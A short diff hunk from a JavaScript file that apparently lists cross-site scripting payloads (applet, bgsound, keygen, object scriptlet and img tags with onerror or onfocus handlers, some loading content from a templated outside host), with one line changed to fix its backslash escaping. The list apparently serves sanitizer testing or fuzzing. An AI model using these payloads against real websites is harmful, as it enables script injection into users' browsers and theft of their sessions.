@@ -208,7 +208,7 @@ const moreHandlers = [
   `<applet code="${away}/x.class" onerror=${run}></applet>`,
   `<bgsound src="${away}/x.mid"><keygen autofocus onfocus=${run}>`,
   `<object type="text/x-scriptlet" data="${away}/x.html"></object>`,
-  `<img src=x alt="\" onerror=${run}//">`,
+  `<img src=x alt="\\" onerror=${run}//">`,
 ];
 
 const styles = [
